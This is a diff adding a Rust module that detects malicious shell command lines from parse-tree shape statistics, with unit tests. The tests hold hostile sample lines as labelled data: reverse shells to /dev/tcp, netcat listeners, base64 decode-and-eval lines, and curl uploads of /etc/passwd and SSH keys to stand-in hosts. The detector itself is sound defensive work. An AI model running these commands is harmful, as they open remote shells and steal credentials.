@@ -1,0 +1,497 @@
+//! Structural side-channel detector over parse-tree shape statistics.
+//!
+//! Every other detector in this crate scores lines in the language
+//! model's embedding space. [`StructuralDetector`] deliberately does
+//! not: it scores each line by the [`shell_parser::script_features`]
+//! vector — pipeline fan-out, expansion/substitution counts, nesting
+//! depth, quoting overhead, suspicious redirect targets — extracted
+//! from the full parse tree. Obfuscation that keeps the *token stream*
+//! innocuous (quote splicing, `${v:-n}` tricks, decode pipelines buried
+//! in command substitutions) inflates exactly these statistics, which
+//! makes the structural channel complementary to the LM methods when
+//! the [`crate::Detector`] scores are rank-fused.
+//!
+//! The fitted state is tiny and append-friendly: Welford running
+//! moments of the benign feature distribution plus a bounded set of
+//! malicious exemplar vectors. A line scores high when its features
+//! are far from the benign moments (z-anomaly) or close to a malicious
+//! exemplar in standardized space.
+
+use crate::detector::{check_labels, Detector, DetectorError, EmbeddingView};
+use shell_parser::{line_features, STRUCTURAL_DIM};
+
+/// Exemplar-set bound: appends past this overwrite round-robin, so a
+/// long-lived service cannot grow the detector without limit.
+pub const MAX_EXEMPLARS: usize = 4096;
+
+const EPS: f64 = 1e-6;
+
+/// Index of the `parse_failed` flag in [`shell_parser::FEATURE_NAMES`]
+/// order. The channel *abstains* (scores 0) on lines that carry it:
+/// this is a parse-tree detector — no tree, no structural evidence.
+/// In live traffic failed parses are overwhelmingly benign typos and
+/// half-pasted lines (an attack line has to execute, so it parses),
+/// and a non-zero abstention score would rank that noise above real
+/// traffic in the fused ensemble.
+const PARSE_FAILED: usize = STRUCTURAL_DIM - 1;
+
+/// Score quantization: the channel reports coarse evidence levels, not
+/// a continuous density. Two structurally equivalent lines routinely
+/// land 1e-3 apart from incidental word counts; under rank fusion that
+/// epsilon would span the hundreds of rank positions of a dense benign
+/// cluster. Snapping to `1/SCORE_STEPS` makes such pairs exact ties,
+/// which [`cmdline_ids::ensemble::rank_normalize`] then gives the
+/// average rank — the channel stays neutral where it has no evidence.
+const SCORE_STEPS: f64 = 16.0;
+
+/// Per-dimension weights, in [`shell_parser::FEATURE_NAMES`] order.
+///
+/// The obfuscation-marker dimensions (suspicious redirect targets,
+/// heredocs, operator-bearing expansions, substitution depth, spliced
+/// words) carry full weight: benign traffic almost never moves them,
+/// so any deviation is signal. The generic shape dimensions (command
+/// counts, pipeline fan-out, redirects, ordinary quoting, bare
+/// `$PATH`-style references, assignments) are down-weighted to 0.1 —
+/// benign pipelines like `git diff | wc -l` and quoted arguments like
+/// `echo "deploy done"` move them just as hard as attacks do, and at
+/// full weight they drown the channel in shape noise. The `parse_failed` entry is moot
+/// in practice: the channel abstains on unparseable lines and rejects
+/// unparseable exemplars (see [`PARSE_FAILED`]), so every vector that
+/// reaches a weighted computation has it at zero.
+const DIM_WEIGHTS: [f64; STRUCTURAL_DIM] = [
+    0.1, // simple_commands
+    0.1, // max_pipeline_len
+    0.1, // and_or_connectors
+    0.1, // background_lists
+    0.1, // redirects
+    1.0, // suspicious_redirect_targets
+    1.0, // heredoc_herestrings
+    0.1, // param_expansions
+    1.0, // param_modifiers
+    1.0, // substitutions
+    1.0, // max_subst_depth
+    1.0, // arith_expansions
+    0.1, // quote_removal_delta
+    0.1, // quoted_words
+    1.0, // spliced_words
+    0.1, // compound_commands
+    0.1, // assignments
+    0.1, // parse_failed
+];
+
+/// Exemplar admission floor: a malicious line only joins the proximity
+/// set when its own weighted z-part against the benign moments reaches
+/// this value. Structurally *plain* malicious lines (`nc -lvnp 4444`
+/// is feature-identical to `ls -la`) would otherwise hand proximity
+/// ≈ 1 to every plain benign line and drown the channel; the rules
+/// or LM methods own those — this detector keeps only exemplars that
+/// are structurally distinctive.
+const ADMIT_FLOOR: f64 = 0.5;
+
+/// Fitted state: benign moments + malicious exemplars.
+#[derive(Debug, Clone)]
+pub struct FittedStructural {
+    mean: [f64; STRUCTURAL_DIM],
+    m2: [f64; STRUCTURAL_DIM],
+    benign_count: u64,
+    exemplars: Vec<[f32; STRUCTURAL_DIM]>,
+    /// Total exemplars ever inserted — drives the round-robin overwrite
+    /// position once the set is full.
+    inserted: u64,
+}
+
+impl FittedStructural {
+    fn new() -> Self {
+        FittedStructural {
+            mean: [0.0; STRUCTURAL_DIM],
+            m2: [0.0; STRUCTURAL_DIM],
+            benign_count: 0,
+            exemplars: Vec::new(),
+            inserted: 0,
+        }
+    }
+
+    /// Rebuilds fitted state from its serialized parts (see
+    /// [`crate::DetectorState`]).
+    pub fn from_parts(
+        mean: [f64; STRUCTURAL_DIM],
+        m2: [f64; STRUCTURAL_DIM],
+        benign_count: u64,
+        exemplars: Vec<[f32; STRUCTURAL_DIM]>,
+        inserted: u64,
+    ) -> Self {
+        FittedStructural {
+            mean,
+            m2,
+            benign_count,
+            exemplars,
+            inserted,
+        }
+    }
+
+    /// Benign feature means.
+    pub fn mean(&self) -> &[f64; STRUCTURAL_DIM] {
+        &self.mean
+    }
+
+    /// Benign sum of squared deviations (Welford's M2).
+    pub fn m2(&self) -> &[f64; STRUCTURAL_DIM] {
+        &self.m2
+    }
+
+    /// Number of benign lines absorbed.
+    pub fn benign_count(&self) -> u64 {
+        self.benign_count
+    }
+
+    /// Malicious exemplar feature vectors.
+    pub fn exemplars(&self) -> &[[f32; STRUCTURAL_DIM]] {
+        &self.exemplars
+    }
+
+    /// Total exemplars ever inserted (for round-robin resume).
+    pub fn inserted(&self) -> u64 {
+        self.inserted
+    }
+
+    fn absorb_benign(&mut self, line: &str) {
+        let f = line_features(line);
+        self.benign_count += 1;
+        let n = self.benign_count as f64;
+        for (d, &x) in f.iter().enumerate() {
+            let x = x as f64;
+            let delta = x - self.mean[d];
+            self.mean[d] += delta / n;
+            self.m2[d] += delta * (x - self.mean[d]);
+        }
+    }
+
+    /// Offers a malicious line to the exemplar set; admitted only when
+    /// it is structurally distinctive against the current benign
+    /// moments (see [`ADMIT_FLOOR`]). With fewer than two benign lines
+    /// absorbed there are no moments to judge by, so everything is
+    /// admitted.
+    fn offer_exemplar(&mut self, line: &str) {
+        let f = line_features(line);
+        // Unparseable exemplars can never match a scored line — the
+        // channel abstains on those — so they would only waste a slot.
+        if f[PARSE_FAILED] > 0.0 {
+            return;
+        }
+        if self.benign_count >= 2 && self.z_part(&f) < ADMIT_FLOOR {
+            return;
+        }
+        if self.exemplars.len() < MAX_EXEMPLARS {
+            self.exemplars.push(f);
+        } else {
+            let at = (self.inserted % MAX_EXEMPLARS as u64) as usize;
+            self.exemplars[at] = f;
+        }
+        self.inserted += 1;
+    }
+
+    fn std(&self, d: usize) -> f64 {
+        if self.benign_count < 2 {
+            return 0.0;
+        }
+        (self.m2[d] / (self.benign_count - 1) as f64).sqrt()
+    }
+
+    /// Largest weighted capped per-feature z-anomaly (`w·z/(1+z)`)
+    /// against the benign moments — an L∞ norm in the weighted
+    /// standardized space. The max (not a mean) because an obfuscation
+    /// trick typically moves exactly one marker dimension (a `${v:-n}`
+    /// splice only touches the expansion count); averaging dilutes it
+    /// below the shape noise floor. Zero before two benign lines have
+    /// been absorbed.
+    fn z_part(&self, f: &[f32; STRUCTURAL_DIM]) -> f64 {
+        if self.benign_count < 2 {
+            return 0.0;
+        }
+        let mut best = 0.0f64;
+        for d in 0..STRUCTURAL_DIM {
+            let z = (f[d] as f64 - self.mean[d]).abs() / (self.std(d) + EPS);
+            let u = DIM_WEIGHTS[d] * z / (1.0 + z);
+            if u > best {
+                best = u;
+            }
+        }
+        best
+    }
+
+    fn score_line(&self, line: &str) -> f32 {
+        let f = line_features(line);
+        if f[PARSE_FAILED] > 0.0 {
+            return 0.0;
+        }
+        let z_part = self.z_part(&f);
+        // Proximity to the nearest malicious exemplar, in the same
+        // weighted benign-standardized space the z-part uses, so a
+        // benign pipeline is not "near" a decode-pipeline exemplar
+        // merely by sharing its fan-out.
+        let mut proximity = 0.0f64;
+        if !self.exemplars.is_empty() {
+            let mut best = f64::INFINITY;
+            for e in &self.exemplars {
+                let mut d2 = 0.0f64;
+                for d in 0..STRUCTURAL_DIM {
+                    let s = self.std(d) + EPS;
+                    let diff = (f[d] as f64 - e[d] as f64) / s;
+                    d2 += DIM_WEIGHTS[d] * diff * diff;
+                }
+                if d2 < best {
+                    best = d2;
+                }
+            }
+            proximity = 1.0 / (1.0 + best.sqrt());
+        }
+        ((0.5 * z_part + 0.5 * proximity) * SCORE_STEPS).round() as f32 / SCORE_STEPS as f32
+    }
+}
+
+/// The structural side-channel detector (method name `"structural"`).
+///
+/// Reports [`Detector::wants_embeddings`]` == false`: engines drive it
+/// with lines-only views and never pay an encoder pass for it.
+#[derive(Debug, Clone, Default)]
+pub struct StructuralDetector {
+    fitted: Option<FittedStructural>,
+}
+
+impl StructuralDetector {
+    /// Creates an unfitted detector.
+    pub fn new() -> Self {
+        StructuralDetector { fitted: None }
+    }
+
+    /// Rebuilds a fitted detector from captured state.
+    pub fn from_fitted(fitted: FittedStructural) -> Self {
+        StructuralDetector {
+            fitted: Some(fitted),
+        }
+    }
+
+    /// The fitted state, if [`Detector::fit`] has run.
+    pub fn fitted(&self) -> Option<&FittedStructural> {
+        self.fitted.as_ref()
+    }
+
+    fn require_lines(view: &EmbeddingView) -> Result<&[String], DetectorError> {
+        if view.lines().len() != view.len() {
+            return Err(DetectorError::MissingLines);
+        }
+        Ok(view.lines())
+    }
+}
+
+impl Detector for StructuralDetector {
+    fn name(&self) -> &str {
+        "structural"
+    }
+
+    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
+        check_labels(train, labels)?;
+        let lines = Self::require_lines(train)?;
+        let mut fitted = FittedStructural::new();
+        // Two passes: the benign moments must be complete before any
+        // exemplar is judged for admission, or the gate would depend
+        // on line order within the batch.
+        for (line, &label) in lines.iter().zip(labels) {
+            if !label {
+                fitted.absorb_benign(line);
+            }
+        }
+        for (line, &label) in lines.iter().zip(labels) {
+            if label {
+                fitted.offer_exemplar(line);
+            }
+        }
+        self.fitted = Some(fitted);
+        Ok(())
+    }
+
+    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
+        let fitted = self
+            .fitted
+            .as_ref()
+            .expect("StructuralDetector::score_batch before fit");
+        let lines = Self::require_lines(test).expect("structural scoring needs source lines");
+        lines.iter().map(|l| fitted.score_line(l)).collect()
+    }
+
+    fn absorbs_appends(&self) -> bool {
+        true
+    }
+
+    fn append(&mut self, batch: &EmbeddingView, labels: &[bool]) -> Result<bool, DetectorError> {
+        check_labels(batch, labels)?;
+        let lines = Self::require_lines(batch)?;
+        let fitted = self.fitted.get_or_insert_with(FittedStructural::new);
+        for (line, &label) in lines.iter().zip(labels) {
+            if !label {
+                fitted.absorb_benign(line);
+            }
+        }
+        for (line, &label) in lines.iter().zip(labels) {
+            if label {
+                fitted.offer_exemplar(line);
+            }
+        }
+        Ok(true)
+    }
+
+    fn as_any(&self) -> &dyn std::any::Any {
+        self
+    }
+
+    fn wants_embeddings(&self) -> bool {
+        false
+    }
+
+    fn resident_bytes(&self) -> Option<usize> {
+        self.fitted.as_ref().map(|f| {
+            f.exemplars.len() * STRUCTURAL_DIM * std::mem::size_of::<f32>()
+                + 2 * STRUCTURAL_DIM * std::mem::size_of::<f64>()
+                + 2 * std::mem::size_of::<u64>()
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn view(lines: &[&str]) -> EmbeddingView {
+        EmbeddingView::lines_only(lines.iter().map(|s| s.to_string()).collect())
+    }
+
+    const BENIGN: &[&str] = &[
+        "ls -la /tmp",
+        "cd /var/log",
+        "git status",
+        "cat README.md",
+        "grep -rn error /var/log/syslog",
+        "docker ps -a",
+        "df -h",
+        "ps aux",
+        "vim config.yaml",
+        "mkdir -p /srv/app/new",
+        "cp main.py /srv/app",
+        "tar -czf backup.tar.gz /srv/app",
+        "find /var/log -name \"*.log\"",
+        "awk '{print $1}' access.log",
+        "curl -s https://mirror.example.com/install.sh",
+        "python3 main.py --epochs 10",
+    ];
+
+    fn fitted_on_benign_plus(malicious: &[&str]) -> StructuralDetector {
+        let mut det = StructuralDetector::new();
+        let mut lines: Vec<&str> = BENIGN.to_vec();
+        let mut labels = vec![false; lines.len()];
+        lines.extend_from_slice(malicious);
+        labels.extend(std::iter::repeat_n(true, malicious.len()));
+        det.fit(&view(&lines), &labels).unwrap();
+        det
+    }
+
+    #[test]
+    fn obfuscated_lines_outscore_benign() {
+        let det = fitted_on_benign_plus(&["bash -i >& /dev/tcp/1.2.3.4/9001 0>&1"]);
+        let scores = det.score_batch(&view(&[
+            "ls -la /tmp",
+            "${x:-n}c -lvnp 4444",
+            "eval $(echo QUJD= | base64 -d)",
+            "bash -i >& /dev/${t:-tcp}/10.0.0.1/4444 0>&1",
+        ]));
+        let benign = scores[0];
+        for (i, s) in scores.iter().enumerate().skip(1) {
+            assert!(
+                *s > benign,
+                "obfuscated line {i} scored {s} <= benign {benign}"
+            );
+        }
+    }
+
+    #[test]
+    fn exemplar_proximity_raises_scores() {
+        let without = fitted_on_benign_plus(&[]);
+        let with = fitted_on_benign_plus(&["curl -T $(tar czf - /etc/passwd) ftp://h/up/"]);
+        let line = ["curl -T $(tar czf - /root/.ssh) ftp://e/drop/"];
+        let s_without = without.score_batch(&view(&line))[0];
+        let s_with = with.score_batch(&view(&line))[0];
+        assert!(
+            s_with > s_without,
+            "exemplar should raise the score: {s_with} <= {s_without}"
+        );
+    }
+
+    #[test]
+    fn append_absorbs_new_exemplars() {
+        let mut det = fitted_on_benign_plus(&[]);
+        assert!(det.fitted().unwrap().exemplars().is_empty());
+        let absorbed = det
+            .append(&view(&["eval $(printf aGk= | base64 -d)"]), &[true])
+            .unwrap();
+        assert!(absorbed);
+        assert_eq!(det.fitted().unwrap().exemplars().len(), 1);
+        // Benign appends update the moments instead.
+        let n_before = det.fitted().unwrap().benign_count();
+        det.append(&view(&["ls"]), &[false]).unwrap();
+        assert_eq!(det.fitted().unwrap().benign_count(), n_before + 1);
+    }
+
+    #[test]
+    fn exemplar_set_is_bounded() {
+        let mut f = FittedStructural::new();
+        for i in 0..(MAX_EXEMPLARS + 10) {
+            f.offer_exemplar(&format!("nc -lvnp {i}"));
+        }
+        assert_eq!(f.exemplars().len(), MAX_EXEMPLARS);
+        assert_eq!(f.inserted(), (MAX_EXEMPLARS + 10) as u64);
+    }
+
+    #[test]
+    fn lines_only_views_are_required_and_sufficient() {
+        let mut det = StructuralDetector::new();
+        // A matrix-only view has no lines to parse.
+        let m = linalg::Matrix::from_fn(3, 2, |r, c| (r + c) as f32);
+        let e = det.fit(&EmbeddingView::from_matrix(m), &[false, false, true]);
+        assert_eq!(e, Err(DetectorError::MissingLines));
+        // A lines-only view is all it needs.
+        assert!(det
+            .fit(&view(&["ls", "nc -lvnp 1"]), &[false, true])
+            .is_ok());
+    }
+
+    #[test]
+    fn scores_are_deterministic_and_aligned() {
+        let det = fitted_on_benign_plus(&["nc -lvnp 4444"]);
+        let t = view(&["ls -la /tmp", "nc -lvnp 9001", "pwd"]);
+        let a = det.score_batch(&t);
+        let b = det.score_batch(&t);
+        assert_eq!(a, b);
+        assert_eq!(a.len(), 3);
+        assert!(det.test_aligned());
+        assert!(!det.wants_embeddings());
+    }
+
+    #[test]
+    fn invalid_lines_get_an_abstention_score() {
+        let det = fitted_on_benign_plus(&["bash -i >& /dev/tcp/1.2.3.4/9001 0>&1"]);
+        let scores = det.score_batch(&view(&["ls -la /tmp", "/*/*/* -> /*/*/* ->"]));
+        assert_eq!(scores[1], 0.0, "no parse tree, no structural evidence");
+        // Unparseable exemplars are never admitted either.
+        let mut det = det;
+        det.append(&view(&["grep pattern && &&"]), &[true]).unwrap();
+        assert_eq!(det.fitted().unwrap().exemplars().len(), 1);
+    }
+
+    #[test]
+    fn resident_bytes_reported_after_fit() {
+        let mut det = StructuralDetector::new();
+        assert_eq!(det.resident_bytes(), None);
+        det.fit(&view(&["ls", "nc -lvnp 1"]), &[false, true])
+            .unwrap();
+        assert!(det.resident_bytes().unwrap() > 0);
+    }
+}
